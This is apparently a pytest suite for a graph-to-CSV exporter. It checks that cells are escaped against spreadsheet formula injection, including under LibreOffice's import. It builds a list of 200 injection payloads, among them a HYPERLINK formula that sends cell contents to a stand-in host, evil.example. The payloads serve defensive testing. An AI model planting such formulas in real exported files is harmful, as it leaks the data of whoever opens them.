"""No cell of a CSV file is a formula, in our own reading and in LibreOffice; numbers stay numbers, text comes back."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
from itertools import product
from pathlib import Path

import networkx as nx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from export import write
from graph.text import cell, uncell

STARTS = ["", " ", "\t", "\r", "\n", "'", '"', "\u00a0", "words; ", "words\n"]
SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "=+", "@="]
BODIES = ["1+1", 'HYPERLINK("https://evil.example/?"&A1,"look")']
HOSTILE = [start + sign + body for start, sign, body in product(STARTS, SIGNS, BODIES)]
# How spreadsheets read a CSV file: by comma, by semicolon (where the comma is for decimals), by anything; cells that begin
# with a sign are formulas. The tokens are those of LibreOffice's filter for text.
READINGS = {"comma": "44", "semicolon": "59", "all": "44/59/9"}


def test_there_are_200_hostile_cells():
    assert len(set(HOSTILE)) == 200


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_cell_is_text_however_it_is_cut(text):
    made = cell(text)
    assert uncell(made) == text
    for part in re.split(r"[;\t\r\n]", made):
        assert not re.match(r"[\s'\"]*[=+\-@＝＋－＠]", part) or part.lstrip(' "\u00a0').startswith("'")
        assert not re.match(r"\s*[=+\-@＝＋－＠]", part)


@given(st.text(st.sampled_from("='\"+-@;\t\r\n ax＝\u00a0")) | st.text())
def test_every_text_comes_back(text):
    assert uncell(cell(text)) == text


@pytest.mark.parametrize("value", [0, -1, 2.5, -1e9, 10**15])
def test_numbers_stay_numbers(value):
    assert cell(value) is value


def test_a_long_run_of_line_ends_takes_no_long_time():
    assert cell("\n" * 200_000 + "=") == "'" + "\n" * 200_000 + "'="


@pytest.fixture
def hostile(tmp_path) -> Path:
    """CSV files of a graph that has the hostile cells for names, ids, attributes, their names, and quotes."""
    graph = nx.MultiDiGraph()
    for number, text in enumerate(HOSTILE):
        graph.add_node(f"actor:{number:03}", type="Actor", name=text, aliases=[text], number=-number, share=-number / 8)
        graph.add_node(f"{text}{number:03}", type="Claim", name="x", quote=text, **{text: text} if number < 20 else {})
        graph.add_edge(f"actor:{number:03}", f"{text}{number:03}", key=text, type="SAYS", note=text, weight=number)
    write(graph, tmp_path / "trade.csv")
    return tmp_path


def test_the_files_hold_every_cell(hostile):
    rows = list(csv.reader(io.StringIO((hostile / "trade.nodes.csv").read_bytes().decode("utf-8-sig"), newline="")))
    header = [uncell(name) for name in rows[0]]
    nodes = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    names = {row["id"]: uncell(row["name"]) for row in nodes if row["type"] == "Actor"}
    assert names == {f"actor:{number:03}": text for number, text in enumerate(HOSTILE)}
    assert {uncell(row["quote"]) for row in nodes if row["type"] == "Claim"} == set(HOSTILE)


def libreoffice(folder: Path, *arguments: str) -> None:
    if shutil.which("soffice") is None:
        message = "no LibreOffice: apt install libreoffice-calc-nogui"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    profile = f"-env:UserInstallation=file://{folder}/profile"
    command = ["soffice", "--headless", "--norestore", profile, *arguments]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False, timeout=240)
    assert done.returncode == 0, done.stdout + done.stderr


def opened(separators: str) -> str:
    return f"--infilter=Text - txt - csv (StarCalc):{separators},34,76,1,,0,false,true,false,false,false,-1,true"


@pytest.mark.parametrize("reading", READINGS)
def test_libreoffice_finds_no_formula(hostile, reading):
    raw = io.StringIO()
    csv.writer(raw).writerows([["x", text, -1] for text in HOSTILE])
    (hostile / "raw.csv").write_text(raw.getvalue(), encoding="utf-8", newline="")
    names = ["raw", "trade.nodes", "trade.edges"]
    libreoffice(hostile, opened(READINGS[reading]), "--convert-to", "fods", *(f"{name}.csv" for name in names))
    formulas = {name: (hostile / f"{name}.fods").read_bytes().count(b"table:formula=") for name in names}
    assert formulas.pop("raw") > 0, "LibreOffice takes nothing for a formula: this shows nothing"
    assert formulas == {"trade.nodes": 0, "trade.edges": 0}


def test_libreoffice_has_numbers_for_numbers_and_gives_every_text_back(hostile):
    libreoffice(hostile, opened("44"), "--convert-to", "fods", "trade.nodes.csv")
    space = {
        "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
        "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    }
    tree = etree.parse(hostile / "trade.nodes.fods")
    numbers = tree.findall(".//table:table-cell[@office:value-type='float']", space)
    # `number` and `share` of every actor; equal neighbours are told once.
    assert len(numbers) >= 2 * len(HOSTILE) - 5
    (hostile / "back").mkdir()
    target = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false"
    libreoffice(hostile, opened("44"), "--convert-to", target, "--outdir", "back", "trade.nodes.csv")
    rows = list(
        csv.DictReader(io.StringIO((hostile / "back" / "trade.nodes.csv").read_bytes().decode("utf-8-sig"), newline=""))
    )
    names = {row["id"]: uncell(row["name"]) for row in rows if row["type"] == "Actor"}
    # Spreadsheets have one kind of line end within a cell.
    assert names == {f"actor:{number:03}": text.replace("\r", "\n") for number, text in enumerate(HOSTILE)}
